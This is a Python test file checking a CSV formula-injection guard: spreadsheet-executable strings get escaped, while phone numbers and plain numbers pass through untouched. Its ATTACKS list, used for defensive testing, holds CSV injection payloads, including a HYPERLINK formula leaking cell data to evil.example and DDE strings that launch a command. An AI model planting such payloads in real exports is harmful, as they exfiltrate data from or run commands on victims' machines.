"""The CSV formula guard: what a spreadsheet would run is guarded, numbers and phones are not."""

from __future__ import annotations

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpcrunch_async._core.cells import cell, is_formula, unguard_cell

# What a formula needs to reach anything beyond arithmetic on literals: a
# letter (a function, a cell such as A1, R1C1, a name, a DDE program) or a
# reference's or string's punctuation.
_REACHING = set(string.ascii_letters) | set("!|:$\"'&@=[]{}#;\\%^<>_~`?*\t\r\n")


def spreadsheet_would_run(text: str) -> bool:
    """The oracle, written apart from the guard: a formula that can do more than sums."""
    if not text:
        return False
    if text[0] in "=@\t\r":
        return True
    if text[0] in "+-":
        rest = text[1:]
        if re.fullmatch(r"[0-9]*\.?[0-9]+[eE][+-]?[0-9]+", rest):
            return False  # a number in scientific notation
        return any(
            ch in _REACHING or not ch.isascii() or (ch.isspace() and ch != " ") for ch in rest
        )
    return False


ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "@SUM(A1:A2)",
    '+HYPERLINK("http://x")',
    "-A1",
    "+A1*2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+SUM(A1)",
    "-Sheet2!B7",
    "\t=1+1",
    "\r=1+1",
    "+ 1 555 x",
]

NOT_FORMULAS = [
    "+1 555 0100",
    "+77 836 0754",
    "+7 (777) 123-45-67",
    "-12.5",
    "-3,14",
    "+44 20/7946 0958",
    "-",
    "Lead",
    "a=b",
    "",
    "50%",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_every_documented_attack_is_guarded(text: str) -> None:
    assert is_formula(text)
    assert cell(text, formula_guard=True) == "'" + text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_numbers_phones_and_plain_text_are_written_as_they_are(text: str) -> None:
    assert not is_formula(text)
    assert cell(text, formula_guard=True) == text


phones = st.from_regex(r"\A[+-]?[0-9]{1,3}([ .()/-]{0,2}[0-9]{1,4}){0,5}\Z")
numbers = st.floats(allow_nan=False, allow_infinity=False).map(repr) | st.integers().map(str)


@given(phones | numbers)
def test_phone_like_and_plain_numbers_are_never_guarded(text: str) -> None:
    assert cell(text, formula_guard=True) == text


reaching = st.sampled_from(
    ["A1", "SUM(", "HYPERLINK(", "cmd|", "!A0", "R1C1", "Sheet1!", "$B$2", '"x"', "&"]
)
arithmetic = st.text(st.sampled_from("0123456789 .,()/+-"), max_size=8)


@given(
    st.sampled_from("+-"),
    arithmetic,
    reaching,
    st.text(max_size=10),
)
def test_a_sign_before_a_function_or_reference_is_guarded(
    sign: str, before: str, reach: str, after: str
) -> None:
    text = sign + before + reach + after
    assert spreadsheet_would_run(text)
    assert cell(text, formula_guard=True) == "'" + text


@given(st.text(max_size=20) | st.from_regex(r"\A[=@+\-\t\r'].{0,15}\Z"))
def test_the_guard_covers_the_oracle_and_is_undone_by_unguard(text: str) -> None:
    guarded = cell(text, formula_guard=True)
    if spreadsheet_would_run(text):
        assert guarded == "'" + text
    assert unguard_cell(guarded) == text
    assert cell(text, formula_guard=False) == text
